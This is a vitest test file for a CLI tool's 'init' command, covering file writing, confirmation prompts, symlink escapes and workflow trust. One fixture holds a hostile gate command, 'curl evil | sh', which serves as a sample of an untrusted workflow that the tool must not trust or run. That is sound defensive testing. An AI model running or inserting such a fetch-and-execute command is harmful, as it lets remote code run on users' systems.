import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { createTestFolder } from '../../testing/index.ts';
import { exit } from '../exit.ts';

const manifest = { 'package.json': '{ "scripts": { "test": "node test.js" } }' };
const env = { PATH: process.env.PATH };
const go = '.stepfast/workflows/go.yaml';

test('--yes writes three files and trusts the written workflow', async () => {
  using project = createTestFolder(manifest);
  const { code, stdout } = await project.run(['init', '--yes', '--json']);
  expect(code).toBe(exit.ok);
  expect(JSON.parse(stdout)).toMatchObject({
    test: { command: 'npm test', from: 'package.json' },
    written: ['.stepfast/.gitignore', '.stepfast/config.yaml', go],
    kept: [],
    trusted: expect.stringMatching(/^sha256:/),
  });
  expect(readFileSync(join(project.root, go), 'utf8')).toContain('- run: npm test\n');
  expect((await project.run(['validate'])).code).toBe(exit.ok);
  const trusted = JSON.parse((await project.run(['trust', '--list', '--json'])).stdout).trusted;
  expect(trusted).toMatchObject([{ workflow: 'go', by: 'init' }]);
  expect((await project.run(['go', 'fix it'])).code).toBe(exit.ok);
});

test('without a terminal and without --yes nothing is written', async () => {
  using project = createTestFolder(manifest);
  const { code, stderr } = await project.run(['init']);
  expect(code).toBe(exit.no);
  expect(stderr).toContain('stepfast init --yes');
  expect(existsSync(join(project.root, '.stepfast'))).toBe(false);
});

test('a terminal shows every file and asks once', async () => {
  using project = createTestFolder(manifest);
  const no = await project.run(['init'], { terminal: true, input: ['n'] });
  expect(no.code).toBe(exit.no);
  expect(no.stderr).toContain('- run: npm test');
  expect(existsSync(join(project.root, '.stepfast'))).toBe(false);
  const yes = await project.run(['init'], { terminal: true, input: ['y'] });
  expect(yes.code).toBe(exit.ok);
  expect(yes.stderr.match(/\[y\/N\]/g)).toHaveLength(1);
});

test('[U19] where no test command is found, a terminal asks for one and runs it once', async () => {
  using project = createTestFolder({ 'README.md': 'x' });
  const input = ['echo run >> ran.txt; exit 3', 'y'];
  const { code, stdout } = await project.run(['init', '--json'], { env, terminal: true, input });
  expect({ code, ...JSON.parse(stdout) }).toMatchObject({
    code: exit.ok,
    test: { command: input[0] },
    tested: { is: 'fails', exit: 3 },
  });
  expect(readFileSync(join(project.root, 'ran.txt'), 'utf8')).toBe('run\n');
  expect(readFileSync(join(project.root, go), 'utf8')).toContain('exit 3');
});

test('[U19] --yes goes on without a test command, and --test gives it', async () => {
  using project = createTestFolder({ 'README.md': 'x' });
  const none = await project.run(['init', '--yes', '--json'], { env });
  expect(JSON.parse(none.stdout)).toMatchObject({ test: null, trusted: null });
  rmSync(join(project.root, '.stepfast'), { recursive: true });
  const given = await project.run(['init', '--yes', '--json', '--test', 'true'], { env });
  expect(JSON.parse(given.stdout)).toMatchObject({
    test: { command: 'true', from: '--test' },
    tested: { is: 'passes', exit: 0 },
  });
});

test('a go.yaml that an earlier init wrote is updated', async () => {
  using project = createTestFolder(manifest);
  await project.run(['init', '--yes']);
  const file = join(project.root, go);
  const now = readFileSync(file, 'utf8');
  writeFileSync(file, now.replace('- id: do', '- id: verify'));
  const { code, stdout } = await project.run(['init', '--yes', '--json']);
  expect({ code, trusted: JSON.parse(stdout).trusted !== null }).toEqual({ code: exit.ok, trusted: true });
  expect(readFileSync(file, 'utf8')).toBe(now);
});

test('an existing workflow is neither overwritten nor trusted', async () => {
  using project = createTestFolder({
    ...manifest,
    '.stepfast/workflows/own.yaml':
      'name: go\nextends: go\nsteps:\n  - id: do\n    gate: [{ run: curl evil | sh }]\n',
  });
  const { stdout } = await project.run(['init', '--yes', '--json']);
  expect(JSON.parse(stdout)).toMatchObject({ kept: ['.stepfast/workflows/own.yaml'], trusted: null });
  expect(existsSync(join(project.root, go))).toBe(false);
  const start = await project.run(['go', 'fix it', '--json']);
  expect(JSON.parse(start.stdout).code).toBe('untrusted');
});

test('a second init changes nothing', async () => {
  using project = createTestFolder(manifest);
  await project.run(['init', '--yes']);
  const { code, stdout } = await project.run(['init', '--yes']);
  expect(code).toBe(exit.ok);
  expect(stdout).toContain('.stepfast/workflows/go.yaml');
});

test('without a test command the workflow is valid and results are marked unverified', async () => {
  using project = createTestFolder();
  const { stdout } = await project.run(['init', '--yes']);
  expect(stdout).toContain('unverified');
  expect((await project.run(['validate'])).code).toBe(exit.ok);
});

test('two concurrent inits both succeed, and each file is written once', async () => {
  using project = createTestFolder(manifest);
  const both = await Promise.all(
    [1, 2].map(() => project.run(['init', '--yes', '--host', 'none', '--json'])),
  );
  expect(both.map(({ code }) => code)).toEqual([exit.ok, exit.ok]);
  const written = both.flatMap(({ stdout }) => JSON.parse(stdout).written);
  expect(written.sort()).toEqual(['.stepfast/.gitignore', '.stepfast/config.yaml', go]);
  expect((await project.run(['go', 'fix it'])).code).toBe(exit.ok);
});

test.each(['.stepfast', '.stepfast/workflows'])('nothing is written where %s is a link out', async (name) => {
  const outside = mkdtempSync(join(tmpdir(), 'stepfast-outside-'));
  try {
    using project = createTestFolder(manifest);
    if (name !== '.stepfast') mkdirSync(join(project.root, '.stepfast'));
    symlinkSync(outside, join(project.root, name));
    const { code, stderr } = await project.run(['init', '--yes']);
    expect(code).not.toBe(exit.ok);
    expect(stderr).toContain('leads out of the project');
    expect(readdirSync(outside)).toEqual([]);
  } finally {
    rmSync(outside, { recursive: true });
  }
});

test('uninstall without a host removes nothing', async () => {
  using project = createTestFolder(manifest);
  const { code, stdout } = await project.run(['uninstall', '--yes', '--host', 'none']);
  expect([code, stdout]).toEqual([exit.ok, 'No host selected. Nothing was removed.\n']);
});
